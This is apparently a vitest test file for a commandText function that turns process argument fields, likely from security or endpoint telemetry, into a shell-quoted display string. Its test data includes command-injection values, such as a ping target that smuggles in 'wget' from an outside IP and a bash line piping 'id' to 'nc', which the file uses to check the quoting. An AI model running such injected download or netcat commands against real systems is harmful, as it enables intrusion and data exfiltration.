import { expect, test } from 'vitest';
import { commandText } from './command-text.ts';

test.each([
  [['ping', '-c', '3', '127.0.0.1;wget http://203.0.113.9/x'], "ping -c 3 '127.0.0.1;wget http://203.0.113.9/x'"],
  [['sh', '-c', 'ping -c 3 127.0.0.1;id'], 'sh -c ping -c 3 127.0.0.1;id'],
  [['/bin/bash', '-c', 'id|nc 203.0.113.9 1'], '/bin/bash -c id|nc 203.0.113.9 1'],
  [['sudo', 'sh', '-c', 'id;id'], 'sudo sh -c id;id'],
  [['ls', '-l', 'two words'], 'ls -l two words'],
  [['grep', "it's;id"], "grep 'it'\\''s;id'"],
])('%j', (args, said) => {
  const fields = { 'process.args': args, 'process.command_line': args.join(' ') };
  expect(commandText({ fields })).toBe(said);
});

test('a line that is not the joined words is left as it is', () => {
  expect(commandText({ fields: { 'process.args': ['a;b'], 'process.command_line': 'a;b c' } })).toBe('a;b c');
  expect(commandText({ fields: { 'process.command_line': 'a;b' } })).toBe('a;b');
});
